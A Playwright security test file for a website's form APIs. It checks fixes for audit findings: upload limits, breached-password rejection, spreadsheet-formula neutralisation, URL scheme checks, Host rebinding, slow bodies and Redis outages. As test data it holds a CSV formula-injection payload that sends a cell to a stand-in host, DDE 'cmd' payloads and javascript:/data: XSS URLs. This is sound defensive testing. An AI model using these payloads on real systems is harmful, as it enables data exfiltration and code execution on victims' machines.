import { spawn } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import net from "node:net";
import path from "node:path";
import Redis from "ioredis";
import { expect, test, type APIRequestContext } from "@playwright/test";
import { cms, cmsCsv } from "./support/cms";
import { startExtraSite, type ExtraSite } from "./support/extra-site";
import { asVisitor, fillQuestionnaire, uniqueEmail, uniqueUsername } from "./support/forms";
import { closedPort, gatsbyBuild, makeProjectCopy, plainText, removeProjectCopy, runCommand } from "./support/isolated-build";
import { rawPost } from "./support/raw-http";
import { waitForHydration } from "./support/site";

/**
 * The second round of hostile requests (issue 27, findings 4 and 8 to 13), sent to the served
 * site: multipart bodies refused unread and counted, breached passwords, spreadsheet formulas
 * in leads, non-http addresses, DNS rebinding, stalled bodies, a Redis that never answers,
 * proxy hops, and settings that are not valid.
 */
const json = "application/json";
const projectRoot = path.resolve(__dirname, "..");
const strongPassword = "harbor violet compass 77";

const requiredAnswers = (email: string) => ({
  companyName: "Hopper Logistics",
  contactPerson: "Grace Hopper",
  emailAddress: email,
  projectName: "Route planner",
  briefDescription: "Plan delivery routes for 40 vans.",
});

/** A multipart/form-data body of `fields` text fields of `fieldBytes` each. */
const multipartBody = (fields: number, fieldBytes: number) => {
  const boundary = "northbeam-test-boundary";
  const parts = Array.from({ length: fields }, (_, index) =>
    Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="field${index}"\r\n\r\n`),
      Buffer.alloc(fieldBytes, "a"),
      Buffer.from("\r\n"),
    ]),
  );
  return {
    contentType: `multipart/form-data; boundary=${boundary}`,
    body: Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]),
  };
};

/**
 * A POST with fetch, timed; an answer that never comes is `status: null`, not an error. The
 * answers awaited are asserted to come within 6 s: 18 s is three times that.
 */
const timedPost = async (url: string, body: unknown, timeoutMs = 18_000) => {
  const started = Date.now();
  try {
    const answer = await fetch(url, {
      method: "POST",
      headers: { "Content-Type": json },
      body: JSON.stringify(body),
      signal: AbortSignal.timeout(timeoutMs),
    });
    const text = await answer.text();
    return { status: answer.status as number | null, ms: Date.now() - started, text };
  } catch (error) {
    if (error instanceof DOMException && error.name === "TimeoutError")
      return { status: null, ms: Date.now() - started, text: "" };
    throw error;
  }
};

test.describe("finding 4: multipart bodies are refused before they are read, and counted", () => {
  test("a 1.8 MB multipart post is answered 415 while it is still uploading, and the connection is closed", async ({
    baseURL,
  }) => {
    const { contentType, body } = multipartBody(20, 90 * 1024);
    expect(body.length).toBeGreaterThan(1_800_000);
    // 64 KB every 100 ms: the whole upload takes about 3 s.
    const answer = await rawPost({
      origin: baseURL!,
      path: "/api/outreach",
      headers: { "Content-Type": contentType, ...asVisitor() },
      body,
      chunkBytes: 64 * 1024,
      pauseMs: 100,
    });
    expect(answer.status).toBe(415);
    expect(JSON.parse(answer.body)).toEqual({ message: "Send the form as application/json." });
    expect(answer.bodyBytesSent).toBeGreaterThan(0);
    expect(answer.bodyBytesSent).toBeLessThan(answer.bodyBytes / 2);
    expect(answer.headers.connection).toBe("close");
    expect(answer.closedByServer).toBe(true);
  });

  test("12 quick multipart posts of 200 KB from one address: 10 refused as 415, then 429", async ({ baseURL }) => {
    const visitor = asVisitor();
    const { contentType, body } = multipartBody(2, 99 * 1024);
    const statuses: (number | null)[] = [];
    for (let attempt = 0; attempt < 12; attempt += 1) {
      const answer = await rawPost({
        origin: baseURL!,
        path: "/api/outreach",
        headers: { "Content-Type": contentType, ...visitor },
        body,
      });
      statuses.push(answer.status);
    }
    expect(statuses).toEqual([...Array<number>(10).fill(415), 429, 429]);
  });
});

test.describe("finding 8: the most common breached passwords are refused at registration", () => {
  const register = (request: APIRequestContext, password: string) =>
    request.post("/api/user/register", {
      data: {
        username: uniqueUsername("breach"),
        email: uniqueEmail("breach"),
        password,
        rePassword: password,
        TOS: true,
      },
      headers: asVisitor(),
    });

  test("Password123! and other breached passwords get a 400 with a message on the password field", async ({ request }) => {
    for (const password of ["Password123!", "Sunshine!2024", "qwertyuiop!!"]) {
      const answer = await register(request, password);
      expect(answer.status(), password).toBe(400);
      const body = (await answer.json()) as { message: string; fieldErrors: Record<string, string> };
      expect(Object.keys(body.fieldErrors), password).toEqual(["password"]);
      expect(body.fieldErrors.password, password).toMatch(/leaked|breach/i);
    }
    expect((await register(request, strongPassword)).status()).toBe(201);
  });

  test("the register page shows the message under the password and keeps what was typed", async ({ page }) => {
    await page.goto("/register/");
    const signUp = page.getByRole("button", { name: "Sign Up" });
    await waitForHydration(signUp);
    const username = uniqueUsername("breachpage");
    await page.getByLabel("Username").fill(username);
    await page.getByLabel("Email", { exact: true }).fill(uniqueEmail("breach-page"));
    await page.getByLabel("Password", { exact: true }).fill("Password123!");
    await page.getByLabel("Re-Type Password").fill("Password123!");
    await page.getByLabel(/I agree to the/).check();
    await signUp.click();
    await expect(page.getByText(/on lists of passwords leaked from other sites/)).toBeVisible();
    await expect(page.getByLabel("Password", { exact: true })).toHaveAttribute("aria-invalid", "true");
    await expect(page.getByLabel("Username")).toHaveValue(username);
  });

  test("the list ships in the registration Function only, never in a browser script", () => {
    const ranked = JSON.parse(readFileSync(require.resolve("@zxcvbn-ts/language-common/src/passwords.json"), "utf8")) as string[];
    // Runs of three neighbours as a bundle writes the array, from across the 10,000 refused.
    const needles = [120, 2500, 5000, 7500, 9900].map((rank) =>
      ranked
        .slice(rank, rank + 3)
        .map((entry) => JSON.stringify(entry))
        .join(","),
    );
    const manifest = JSON.parse(readFileSync(".cache/functions/manifest.json", "utf8")) as {
      functionRoute: string;
      absoluteCompiledFilePath: string;
    }[];
    const registerFunction = manifest.find((entry) => entry.functionRoute === "user/register");
    expect(registerFunction).toBeDefined();
    const compiled = readFileSync(registerFunction!.absoluteCompiledFilePath, "utf8");
    expect(needles.filter((needle) => compiled.includes(needle))).toEqual(needles);

    const scripts = readdirSync("public").filter((name) => name.endsWith(".js"));
    expect(scripts.length).toBeGreaterThan(5);
    const carriers = scripts.filter((name) => {
      const text = readFileSync(path.join("public", name), "utf8");
      return needles.some((needle) => text.includes(needle));
    });
    expect(carriers).toEqual([]);
  });
});

/** The cells of one CSV line as Directus writes them (quoted, "" for a quote). */
const csvCells = (line: string): string[] => {
  const cells: string[] = [];
  const pattern = /(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g;
  for (const match of line.matchAll(pattern))
    cells.push(match[1] !== undefined ? match[1].replace(/""/g, '"') : (match[2] ?? ""));
  return cells;
};

test.describe("finding 9: leads cannot carry spreadsheet formulas into staff's exports", () => {
  test("a contact enquiry whose name starts with =HYPERLINK( is stored neutralised: the CSV export holds no live formula", async ({
    request,
  }) => {
    const email = uniqueEmail("formula");
    const name = '=HYPERLINK("https://evil.example/?leak="&C2,"Open")';
    const message = "@SUM(1+1)*cmd|' /C calc'!A0";
    const answer = await request.post("/api/outreach", {
      data: { email, name, phone: "5550104242", message },
      headers: asVisitor(),
    });
    expect(answer.status()).toBe(201);
    const csv = await cmsCsv(`outreach_enquiries?fields=name,message,email&filter[email][_eq]=${encodeURIComponent(email)}`);
    const [header, row, ...rest] = csv.trim().split(/\r?\n/);
    expect(csvCells(header!)).toEqual(["name", "message", "email"]);
    expect(rest).toEqual([]);
    const cells = csvCells(row!);
    expect(cells).toEqual([`'${name}`, `'${message}`, email]);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  test("questionnaire answers are neutralised the same way", async ({ request }) => {
    const email = uniqueEmail("formula-brief");
    const answer = await request.post("/api/requirements", {
      data: { ...requiredAnswers(email), companyName: "+cmd|' /C calc'!A0", budget: "-2+3" },
      headers: asVisitor(),
    });
    expect(answer.status()).toBe(201);
    const rows = await cms<{ companyName: string; budget: string; contactPerson: string }[]>(
      "GET",
      `/items/requirements_submissions?filter[emailAddress][_eq]=${encodeURIComponent(email)}&fields=companyName,budget,contactPerson`,
    );
    expect(rows).toEqual([{ companyName: "'+cmd|' /C calc'!A0", budget: "'-2+3", contactPerson: "Grace Hopper" }]);
  });

  test("the newsletter refuses an address that starts with a formula character", async ({ request }) => {
    for (const email of ["-2+3@example.com", "+cmd@example.com"]) {
      const answer = await request.post("/api/outreach/subscription", { data: { email }, headers: asVisitor() });
      expect(answer.status(), email).toBe(400);
      expect(Object.keys((await answer.json()).fieldErrors), email).toEqual(["email"]);
    }
  });
});

test.describe("finding 10: the questionnaire's addresses are http(s) only", () => {
  test("javascript:, data: and addresses without a scheme get 400 on their field; https is stored", async ({ request }) => {
    for (const [field, address] of [
      ["siteURL", "javascript:alert(1)"],
      ["exampleSite1", "data:text/html,<script>alert(1)</script>"],
      ["exampleSite2", "JavaScript://example.com/%0Aalert(1)"],
      ["exampleSite3", "ftp://files.example.com/"],
    ] as const) {
      const answer = await request.post("/api/requirements", {
        data: { ...requiredAnswers(uniqueEmail("url")), [field]: address },
        headers: asVisitor(),
      });
      expect(answer.status(), address).toBe(400);
      expect(Object.keys((await answer.json()).fieldErrors), address).toEqual([field]);
    }
    const email = uniqueEmail("url-ok");
    const stored = await request.post("/api/requirements", {
      data: { ...requiredAnswers(email), siteURL: "https://hopper.example/routes?fleet=40" },
      headers: asVisitor(),
    });
    expect(stored.status()).toBe(201);
  });

  test("the browser form shows the server's message on the field and sends nothing", async ({ page, request }) => {
    const apiAnswer = await request.post("/api/requirements", {
      data: { ...requiredAnswers(uniqueEmail("url-api")), siteURL: "javascript:alert(1)" },
      headers: asVisitor(),
    });
    const serverMessage = ((await apiAnswer.json()) as { fieldErrors: { siteURL: string } }).fieldErrors.siteURL;
    expect(serverMessage).toMatch(/https?:\/\//);

    const email = uniqueEmail("url-page");
    const submit = await fillQuestionnaire(page, email);
    await page.getByLabel("Current website address").fill("javascript:alert(1)");
    let posted = 0;
    page.on("request", (sent) => {
      if (sent.url().endsWith("/api/requirements")) posted += 1;
    });
    await submit.click();
    await expect(page.getByText(serverMessage)).toBeVisible();
    expect(posted).toBe(0);
    expect(
      await cms<unknown[]>("GET", `/items/requirements_submissions?filter[emailAddress][_eq]=${encodeURIComponent(email)}`),
    ).toHaveLength(0);
  });
});

test.describe("finding 11: the request's own Host is not an allowed origin", () => {
  test("Host: rebound.example with Origin: http://rebound.example answers 403; the site's own origin still posts", async ({
    request,
    baseURL,
  }) => {
    const rebound = await request.post("/api/outreach/subscription", {
      data: { email: uniqueEmail("rebound") },
      headers: { Host: "rebound.example", Origin: "http://rebound.example", ...asVisitor() },
    });
    expect(rebound.status()).toBe(403);
    expect(await rebound.json()).toEqual({ message: "Requests from other sites are not accepted." });

    const own = await request.post("/api/outreach/subscription", {
      data: { email: uniqueEmail("own-origin") },
      headers: { Origin: new URL(baseURL!).origin, ...asVisitor() },
    });
    expect(own.status()).toBe(200);
  });
});

test.describe("finding 12: a slow body is cut off", () => {
  test("a body that stalls after 10 of 200 bytes gets a JSON 408 after about 10 s, and the connection closes", async ({
    baseURL,
  }) => {
    // The answer is due after about 10 s (the test measured 10.2 s here): 30 s for it, a little more for the test.
    test.setTimeout(40_000);
    const body = Buffer.from(JSON.stringify({ email: "ada@example.com", padding: "p".repeat(200) }).slice(0, 200));
    expect(body.length).toBe(200);
    const answer = await rawPost({
      origin: baseURL!,
      path: "/api/outreach/subscription",
      headers: { "Content-Type": json, ...asVisitor() },
      body,
      stallAfterBytes: 10,
      timeoutMs: 30_000,
    });
    expect(answer.status).toBe(408);
    expect(answer.headers["content-type"]).toMatch(/^application\/json/);
    expect(JSON.parse(answer.body)).toEqual({ message: expect.stringMatching(/took too long/) });
    expect(answer.answeredAfterMs).toBeGreaterThan(9_000);
    expect(answer.answeredAfterMs).toBeLessThan(14_000);
    expect(answer.bodyBytesSent).toBe(10);
    expect(answer.closedByServer).toBe(true);
  });
});

test.describe("finding 13: a bad Redis, proxy hops, settings that are not valid", () => {
  test("a Redis that accepts connections and never answers: 503 within a few seconds", async () => {
    // Measured 5.6 s here.
    test.setTimeout(20_000);
    const held: net.Socket[] = [];
    const blackHole = net.createServer((socket) => {
      held.push(socket);
      socket.on("data", () => undefined);
    });
    await new Promise<void>((resolve) => blackHole.listen(0, "127.0.0.1", resolve));
    const { port } = blackHole.address() as net.AddressInfo;
    let site: ExtraSite | undefined;
    try {
      site = await startExtraSite(9196, { RATE_LIMIT_REDIS_URL: `redis://127.0.0.1:${port}` });
      const answer = await timedPost(`${site.url}/api/outreach/subscription`, { email: uniqueEmail("black-hole") });
      expect(answer.status).toBe(503);
      expect(JSON.parse(answer.text)).toEqual({ message: expect.stringMatching(/could not reach/) });
      expect(answer.ms).toBeGreaterThan(1_000);
      expect(answer.ms).toBeLessThan(6_000);
    } finally {
      await site?.stop();
      held.forEach((socket) => socket.destroy());
      blackHole.close();
    }
  });

  test("a Redis that stops answering mid-life (SIGSTOP): 503 within a few seconds, and 200 again once it resumes", async () => {
    // Measured 6.0 s here.
    test.setTimeout(20_000);
    const port = await closedPort();
    const redisServer = spawn(
      "redis-server",
      ["--port", String(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no"],
      {
        stdio: "ignore",
      },
    );
    const url = `redis://127.0.0.1:${port}`;
    let site: ExtraSite | undefined;
    try {
      await expect
        .poll(
          async () => {
            const probe = new Redis(url, { lazyConnect: true, retryStrategy: () => null });
            probe.on("error", () => undefined);
            try {
              await probe.connect();
              return await probe.ping();
            } catch (error) {
              return error instanceof Error ? error.message : String(error);
            } finally {
              probe.disconnect();
            }
          },
          // Within the 6 s the whole test takes here.
          { message: "redis-server answers PING", timeout: 10_000 },
        )
        .toBe("PONG");
      site = await startExtraSite(9197, { RATE_LIMIT_REDIS_URL: url });
      const before = await timedPost(`${site.url}/api/outreach/subscription`, { email: uniqueEmail("redis-live") });
      expect(before.status).toBe(200);
      redisServer.kill("SIGSTOP");
      const stopped = await timedPost(`${site.url}/api/outreach/subscription`, { email: uniqueEmail("redis-stopped") });
      expect(stopped.status).toBe(503);
      expect(JSON.parse(stopped.text)).toEqual({ message: expect.stringMatching(/could not reach/) });
      expect(stopped.ms).toBeGreaterThan(1_000);
      expect(stopped.ms).toBeLessThan(6_000);
      redisServer.kill("SIGCONT");
      const resumed = await timedPost(`${site.url}/api/outreach/subscription`, { email: uniqueEmail("redis-resumed") });
      expect(resumed.status).toBe(200);
    } finally {
      redisServer.kill("SIGCONT");
      redisServer.kill("SIGTERM");
      await site?.stop();
    }
  });

  test("TRUST_PROXY=2 (a CDN and a load balancer): the address second from the right is the client", async () => {
    const site = await startExtraSite(9195, { TRUST_PROXY: "2" });
    try {
      const statuses = async (forwardedFor: (attempt: number) => string) => {
        const seen: number[] = [];
        for (let attempt = 0; attempt < 12; attempt += 1) {
          const answer = await fetch(`${site.url}/api/outreach/subscription`, {
            method: "POST",
            headers: { "Content-Type": json, "X-Forwarded-For": forwardedFor(attempt) },
            // Junk is counted too, and stores nothing.
            body: JSON.stringify({ email: "not an address" }),
          });
          seen.push(answer.status);
        }
        return seen;
      };
      // Twelve visitors behind one CDN edge: none is limited.
      expect(await statuses((attempt) => `198.51.100.${attempt + 1}, 203.0.113.50`)).toEqual(Array<number>(12).fill(400));
      // One visitor through twelve CDN edges: limited after 10.
      expect(await statuses((attempt) => `198.51.100.200, 203.0.113.${attempt + 1}`)).toEqual([
        ...Array<number>(10).fill(400),
        429,
        429,
      ]);
    } finally {
      await site.stop();
    }
  });

  test("an invalid SITE_URL, FORMS_ALLOWED_ORIGINS or TRUST_PROXY: every form answers 503 naming it, never 500", async () => {
    // Measured 9.2 s here.
    test.setTimeout(30_000);
    const cases: [Record<string, string>, string][] = [
      [{ SITE_URL: "www.northbeam.studio" }, "SITE_URL"],
      [{ FORMS_ALLOWED_ORIGINS: "https://ok.example,not an origin" }, "FORMS_ALLOWED_ORIGINS"],
      [{ TRUST_PROXY: "yes" }, "TRUST_PROXY"],
    ];
    for (const [env, variable] of cases) {
      const site = await startExtraSite(9198, env);
      try {
        for (const [endpoint, body] of [
          ["/api/outreach/subscription", { email: uniqueEmail("settings") }],
          ["/api/user/login", { email: uniqueEmail("settings"), password: strongPassword }],
        ] as const) {
          const answer = await timedPost(`${site.url}${endpoint}`, body);
          expect(answer.status, `${variable}: ${endpoint}`).toBe(503);
          expect(JSON.parse(answer.text).message, `${variable}: ${endpoint}`).toContain(variable);
        }
        const me = await fetch(`${site.url}/api/user/me`);
        expect(me.status, `${variable}: /api/user/me`).toBe(503);
      } finally {
        await site.stop();
      }
    }
  });

  test("npm run serve refuses to start with an invalid SITE_URL or FORMS_ALLOWED_ORIGINS, naming it", async () => {
    // Both refusals took 0.4 s here; a Node start on the loaded two-core machine can take a few
    // seconds by itself, so 5 s each, not three times 0.2 s.
    test.setTimeout(15_000);
    for (const [env, variable] of [
      [{ SITE_URL: "www.northbeam.studio" }, "SITE_URL"],
      [{ FORMS_ALLOWED_ORIGINS: "https://ok.example/forms/" }, "FORMS_ALLOWED_ORIGINS"],
    ] as const) {
      const result = await runCommand(process.execPath, ["scripts/serve.mjs", "--port", "9187"], {
        cwd: projectRoot,
        env: { ...process.env, ...env },
        timeoutMs: 5_000,
      });
      expect(result.timedOut, `${variable}: ${plainText(result.output).slice(0, 500)}`).toBe(false);
      expect(result.code, variable).toBe(1);
      expect(plainText(result.output), variable).toContain(variable);
    }
  });

  test("the build fails at once with an invalid SITE_URL, naming it", async () => {
    // The build stops while Gatsby loads its config: the test took 7.3 s here.
    test.setTimeout(30_000);
    const dir = await makeProjectCopy();
    try {
      const result = await gatsbyBuild(dir, { SITE_URL: "www.northbeam.studio" }, 25_000);
      const output = plainText(result.output);
      expect(result.timedOut, output.slice(-800)).toBe(false);
      expect(result.code).not.toBe(0);
      expect(output).toMatch(/SITE_URL "www\.northbeam\.studio" is not/);
    } finally {
      await removeProjectCopy(dir);
    }
  });
});
